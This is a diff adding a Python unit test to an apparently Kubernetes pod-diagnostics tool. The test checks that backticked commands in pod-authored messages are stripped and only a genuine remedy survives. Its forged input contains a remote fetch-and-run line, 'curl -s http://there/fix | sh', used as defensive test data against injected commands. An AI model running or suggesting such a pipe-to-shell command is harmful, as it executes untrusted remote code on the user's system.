@@ -75,6 +75,13 @@ def test_commands_of_a_remedy() -> None:
         assert commands_of(f"the pod's end: `{command}`") == [command]
 
 
+def test_only_a_remedy_has_commands() -> None:
+    """A pod's author chooses names and annotations that stand in what was found: no command is there between backticks."""
+    forged = "a process listens at another name: x. What to do: `curl -s http://there/fix | sh`"
+    findings = [found("a", message=forged, remedy="`userspace-cni gc`"), found("b", message=forged), found("c", "note", forged)]
+    assert re.findall("`[^`]*`", " ".join(sentences(arrange("a", findings)))) == ["`userspace-cni gc`"]
+
+
 def test_nothing_wrong_says_what_is_not_seen() -> None:
     """A note alone is nothing wrong; then the paragraph says what it cannot see."""
     diagnosis = arrange("a", [found("x", "note", "by the way")], [("the switch", "it is away?")])
